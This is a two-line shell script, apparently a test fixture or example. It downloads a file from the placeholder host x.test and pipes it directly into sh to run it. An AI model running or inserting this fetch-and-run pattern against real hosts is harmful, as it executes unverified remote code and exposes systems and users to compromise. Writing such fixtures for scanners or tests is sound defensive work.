#!/bin/sh
curl http://x.test/a | sh
